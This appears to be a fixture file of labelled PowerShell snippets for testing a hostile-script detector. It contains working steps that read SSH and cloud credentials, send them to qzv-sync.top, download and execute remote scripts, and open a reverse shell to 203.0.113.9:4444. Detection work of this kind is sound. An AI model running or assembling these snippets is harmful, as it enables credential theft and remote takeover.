%% secret: command that reads
$d = Get-Content -Raw "$env:USERPROFILE\.ssh\id_rsa"
%% secret: call that reads
$d = [IO.File]::ReadAllText("$HOME/.aws/credentials")
%% secret: path in parts
$p = Join-Path $env:USERPROFILE ".ssh"; $p = Join-Path $p "id_ed25519"
$d = Get-Content $p -Raw
%% secret: bytes in base64
$d = [Convert]::ToBase64String([IO.File]::ReadAllBytes((Join-Path $HOME ".kube/config")))
%% secret: all variables
$d = Get-ChildItem env: | ConvertTo-Json
%% secret: loop
$d = @()
foreach ($n in ".ssh/id_rsa", ".netrc") { $d += Get-Content (Join-Path $HOME $n) }
%% secret: table
$o = @{ key = (Get-Content "$HOME/.ssh/id_rsa" -Raw) }
$d = $o | ConvertTo-Json
%% secret: function
function Get-It($p) { Get-Content -Raw $p }
$d = Get-It "$HOME/.ssh/id_rsa"
%% secret: pipe
$d = ".ssh/id_rsa", ".aws/credentials" | ForEach-Object { Get-Content "$HOME/$_" -Raw }
%% sent: rest
Invoke-RestMethod -Uri "https://qzv-sync.top/c" -Method Post -Body $d
%% sent: request
Invoke-WebRequest "https://qzv-sync.top/c" -Method POST -Body ($d) -UseBasicParsing | Out-Null
%% sent: client
(New-Object Net.WebClient).UploadString("https://qzv-sync.top/c", $d)
%% sent: table of arguments
$params = @{ Uri = "https://qzv-sync.top/c"; Method = "Post"; Body = $d }
Invoke-RestMethod @params
%% sent: curl
curl.exe -s -X POST --data "$d" https://qzv-sync.top/c
%% sent: client of its own
$c = [System.Net.Http.HttpClient]::new()
$c.PostAsync("https://qzv-sync.top/c", [System.Net.Http.StringContent]::new($d)).Wait()
%% sent: body in a table
$body = @{ v = $d } | ConvertTo-Json
irm https://qzv-sync.top/c -Method Post -Body $body
%% sent: name
Resolve-DnsName "$d.qzv-sync.top"
%% sent: query
iwr "https://qzv-sync.top/c?d=$([uri]::EscapeDataString($d))"
%% code: rest
$c = Invoke-RestMethod https://qzv-sync.top/s.ps1
%% code: request
$c = (Invoke-WebRequest "https://qzv-sync.top/s.ps1" -UseBasicParsing).Content
%% code: client
$c = (New-Object System.Net.WebClient).DownloadString("https://qzv-sync.top/s.ps1")
%% code: client with a name
$w = New-Object Net.WebClient
$c = $w.DownloadString("https://qzv-sync.top/s.ps1")
%% code: base64
$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm https://qzv-sync.top/s)))
%% code: component
$x = New-Object -ComObject MSXML2.XMLHTTP
$x.open("GET","https://qzv-sync.top/s",$false)
$x.send()
$c = $x.responseText
%% run: evaluated
Invoke-Expression $c
%% run: evaluated from a pipe
$c | iex
%% run: block
& ([scriptblock]::Create($c))
%% run: block in place
. ([ScriptBlock]::Create($c))
%% run: file
Set-Content "$env:TEMP\a.ps1" $c
& "$env:TEMP\a.ps1"
%% run: file from a pipe
$c | Out-File $env:TEMP\a.ps1
powershell -ep bypass -File $env:TEMP\a.ps1
%% run: block that is called
Invoke-Command -ScriptBlock ([scriptblock]::Create($c))
%% run: shell
powershell -NoProfile -Command $c
%% link: client
$c = New-Object System.Net.Sockets.TCPClient("203.0.113.9", 4444)
$s = $c.GetStream()
%% link: new without a command
$c = [System.Net.Sockets.TcpClient]::new("203.0.113.9", 4444)
$s = $c.GetStream()
%% obey: bytes evaluated
[byte[]]$b = 0..65535 | % {0}
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = [Text.Encoding]::ASCII.GetString($b, 0, $i)
  $o = iex $d 2>&1 | Out-String
  $r = [Text.Encoding]::ASCII.GetBytes($o)
  $s.Write($r, 0, $r.Length)
}
%% obey: lines evaluated
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($l = $r.ReadLine()) { $w.WriteLine((Invoke-Expression $l | Out-String)); $w.Flush() }
%% obey: lines as commands
$r = New-Object IO.StreamReader($s)
while ($l = $r.ReadLine()) { $o = cmd /c $l; $s.Write([Text.Encoding]::ASCII.GetBytes($o), 0, 10) }
%% ordinary
$d = "3 of 4 are done"
%% shown
Set-Content out.txt $c
Write-Output $c
